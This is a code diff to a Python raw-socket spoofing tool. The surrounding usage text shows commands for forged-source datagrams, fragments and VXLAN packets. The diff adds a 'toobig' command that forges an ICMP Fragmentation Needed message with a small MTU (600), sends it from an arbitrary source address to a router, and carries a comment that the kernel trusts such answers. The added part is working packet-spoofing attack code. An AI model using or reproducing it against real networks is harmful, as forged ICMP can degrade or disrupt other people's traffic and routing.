@@ -4,6 +4,7 @@
   spoof.py source FROM TO TEXT                  a datagram with a source address of choice
   spoof.py fragment FROM TO PART TEXT           part 0 or 1 of a datagram of two fragments; "01" is both
   spoof.py shadow PORT HOST PORT TTL FILE       a datagram from the first port to the second; listens on the first, as listen does
+  spoof.py toobig FROM ROUTER TO                tells a router that what it sent to another was too big (RFC 1191)
   spoof.py vxlan VNI MAC NODE PORT FROM TO TEXT a datagram inside of VXLAN, to a node
 """
 import socket, struct, sys
@@ -52,6 +53,16 @@ elif what == "source":
     src, dst, text = args
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     s.sendto(datagram(src, dst, text.encode()), (dst, 0))
+elif what == "toobig":
+    src, router, dst = args
+    reply = struct.pack("!BBHHH", 0, 0, 0, 1, 1)  # the kernel takes the word of anybody who has an answer of its own
+    sent = packet(router, dst, reply)
+    sent = sent[:9] + b"\x01" + sent[10:]  # ICMP
+    body = struct.pack("!BBHHH", 3, 4, 0, 0, 600) + sent
+    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    s.bind((src, 0))
+    s.sendto(body, (router, 0))
 elif what == "fragment":
     src, dst, parts, text = args
     body, more = udp(text.encode()), 0x2000
